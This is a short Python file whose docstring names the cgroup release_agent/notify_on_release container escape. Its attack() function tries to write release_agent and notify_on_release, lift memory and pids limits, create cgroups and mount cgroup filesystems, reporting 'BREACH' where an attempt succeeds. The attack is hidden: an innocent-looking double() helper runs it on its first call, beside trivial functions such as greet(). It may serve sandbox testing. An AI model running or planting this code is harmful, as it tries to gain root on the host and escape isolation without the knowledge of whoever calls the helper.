"""release_agent and notify_on_release have a program started on the host, as root."""

import ctypes
import errno
import glob
import os

LIBC = ctypes.CDLL(None, use_errno=True)

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


def call(name, *arguments):
    """A function of the C library, with the kernel's errors as Python's."""
    ctypes.set_errno(0)
    result = getattr(LIBC, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return True


def write(path, text):
    with open(path, "w") as file:
        return file.write(text) > 0


def attack():
    for folder in ["/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*"), "/cgroup", "/tmp/cgroup"]:
        for name, text in (
            ("cgroup.procs", "0"), ("tasks", "0"), ("release_agent", "/tmp/left"), ("notify_on_release", "1"),
            ("memory.max", "max"), ("pids.max", "max"), ("memory.limit_in_bytes", "-1"), ("cgroup.subtree_control", "-pids"),
        ):
            attempt(f"{folder}/{name}", lambda: write(f"{folder}/{name}", text))
        attempt(f"a group in {folder}", lambda: os.mkdir(f"{folder}/left") is None if folder.startswith("/sys") else None)
    for kind, options in ((b"cgroup", b"memory"), (b"cgroup2", None), (b"cgroup", b"rdma")):
        attempt(f"mount {kind.decode()}", lambda: call("mount", b"none", b"/tmp", kind, 0, options))


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
